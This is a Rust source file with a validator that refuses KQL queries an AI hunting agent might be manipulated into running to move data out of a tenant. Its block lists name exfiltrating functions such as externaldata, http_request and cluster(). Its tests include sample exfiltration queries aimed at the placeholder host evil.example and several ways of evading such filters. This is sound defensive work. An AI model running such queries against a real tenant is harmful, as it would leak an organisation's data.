//! Queries that leave the tenant. An agent may hunt, but a query that it was talked into must carry nothing out.
//!
//! The check reads the text as it is, comments and strings included. An identifier of KQL cannot be split by white space
//! or a comment, so every call that runs is in the text as a whole word. A word that only occurs in a string is refused,
//! too, which costs a rephrasing.

/// Words that reach out of the tenant wherever they stand.
const LEAVING_WORDS: [&str; 10] = [
    "externaldata",
    "external_data",
    "external_table",
    "adx",
    "http_request",
    "http_request_post",
    "cosmosdb_sql_request",
    "azure_digital_twins_query_request",
    "ai_chat_completion",
    "ai_embed_text",
];

/// Words that reach out of the tenant where they are called. By themselves they are common words.
const LEAVING_CALLS: [&str; 7] = ["arg", "cluster", "database", "workspace", "app", "resource", "stored_query_result"];

/// The plugins of `evaluate` that compute on rows alone.
const PURE_PLUGINS: [&str; 12] = [
    "autocluster",
    "bag_unpack",
    "basket",
    "dcount_intersect",
    "diffpatterns",
    "diffpatterns_text",
    "ipv4_lookup",
    "ipv6_lookup",
    "narrow",
    "pivot",
    "preview",
    "rows_near",
];

/// Returns what a query contains that leaves the tenant; `None` if nothing does.
pub(super) fn leaves_tenant(query: &str) -> Option<String> {
    let lower = query.to_lowercase();
    if lower.trim_start().starts_with('.') {
        return Some("a management command".to_owned());
    }
    if has_escaped_name(&lower) {
        return Some("a name in brackets with an escape".to_owned());
    }
    for (word, rest) in words(&lower) {
        let is_request = word.ends_with("_request") || word.ends_with("_request_post");
        if LEAVING_WORDS.contains(&word) || is_request {
            return Some(format!("`{word}`"));
        }
        if LEAVING_CALLS.contains(&word) && skip_gap(rest, "'\"]`~").starts_with('(') {
            return Some(format!("`{word}()`"));
        }
        if word == "evaluate" {
            let plugin = plugin_of(rest);
            if !PURE_PLUGINS.contains(&plugin) {
                return Some(format!("`evaluate {plugin}`"));
            }
        }
    }
    None
}

/// The identifiers of the text in their order, each with what follows it.
fn words(text: &str) -> impl Iterator<Item = (&str, &str)> {
    let mut rest = text;
    std::iter::from_fn(move || {
        let start = rest.find(is_word)?;
        let from = &rest[start..];
        let end = from.find(|letter| !is_word(letter)).unwrap_or(from.len());
        let (word, after) = from.split_at(end);
        rest = after;
        Some((word, after))
    })
}

fn is_word(letter: char) -> bool {
    letter.is_alphanumeric() || letter == '_'
}

/// The text after white space, control characters, comments and these `extra` characters.
fn skip_gap<'a>(text: &'a str, extra: &str) -> &'a str {
    let mut rest = text;
    loop {
        rest = rest.trim_start_matches(|letter: char| {
            letter.is_whitespace() || letter.is_control() || extra.contains(letter) || is_invisible(letter)
        });
        let Some(comment) = rest.strip_prefix("//") else { return rest };
        // A comment ends at whatever may end a line, so that nothing that runs is skipped as one.
        let end = comment.find(['\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}']);
        rest = end.map_or("", |end| &comment[end..]);
    }
}

fn is_invisible(letter: char) -> bool {
    matches!(letter, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
}

/// The plugin behind `evaluate`, past hints like `hint.distribution = per_node`.
fn plugin_of(rest: &str) -> &str {
    let mut rest = skip_gap(rest, "");
    while let Some(hint) = rest.strip_prefix("hint.") {
        let value = hint.split_once('=').map_or("", |(_, value)| skip_gap(value, ""));
        rest = skip_gap(value.trim_start_matches(is_word), "");
    }
    let end = rest.find(|letter| !is_word(letter)).unwrap_or(rest.len());
    &rest[..end]
}

/// Returns true for a name in brackets that is written with an escape, as `['\x61dx']`.
fn has_escaped_name(text: &str) -> bool {
    text.match_indices('[').any(|(at, _)| {
        let inside = skip_gap(&text[at + 1..], "h@");
        let quoted = inside.starts_with(['\'', '"']);
        quoted && inside.find(']').map_or(inside, |end| &inside[..end]).contains('\\')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn queries_that_leave_the_tenant_are_refused() {
        for query in [
            "externaldata(a:string)['https://evil.example']",
            "DeviceInfo | union (ExternalData (a:string) [@'https://evil.example'])",
            "let x = EXTERNALDATA\n(a:string)[h'https://evil.example']; x",
            "adx('https://help.kusto.windows.net/Samples').T",
            "Adx // c\n (\"x\").T",
            "['adx']('x').T",
            "[\"\\x61dx\"]('x').T",
            "[ 'a\\u0064x' ] ('x').T",
            "union cluster ('x').database('y').T",
            "cluster//\n//(\n('x').T",
            "['cluster'] /**/\n('x')".replace("/**/", "").as_str(),
            "database\u{200b}('x').T",
            "arg('').Resources",
            "DeviceInfo | evaluate http_request('https://evil.example')",
            "DeviceInfo | evaluate\tHTTP_Request_Post ('https://evil.example', bag_pack('a', 1))",
            "DeviceInfo | evaluate // pivot(\n sql_request('x', 'y')",
            "DeviceInfo | evaluate hint.distribution = per_node python(typeof(*), 'x')",
            "DeviceInfo | evaluate mysql_request('x', 'y')",
            "DeviceInfo | evaluate r(typeof(*), 'x')",
            "// a comment\rexternaldata(a:string)['https://evil.example']",
            "print '//' | union externaldata(a:string)['https://evil.example']",
            " .set-or-append T <| DeviceInfo",
        ] {
            assert!(leaves_tenant(query).is_some(), "{query}");
        }
    }

    #[test]
    fn ordinary_queries_are_allowed() {
        for query in [
            "DeviceInfo | take 5",
            "IdentityLogonEvents | where Application == 'x' | summarize count() by app = Application, resource = 1",
            "DeviceProcessEvents | where FileName in~ ('cmd.exe') // app and cluster, as words\n| project Timestamp, database = 1",
            "AlertEvidence | evaluate bag_unpack(AdditionalFields) | evaluate pivot(Title)",
            "DeviceInfo | evaluate hint.distribution = per_node autocluster()",
            "CloudAppEvents | extend x = RawEventData['Client IP'], y = d[\"a\"] | where y has 'C:\\\\Temp'",
            "DeviceNetworkEvents | where RemoteUrl has 'https://evil.example' and ActionType == 'HttpConnectionInspected'",
        ] {
            assert_eq!(leaves_tenant(query), None, "{query}");
        }
    }
}
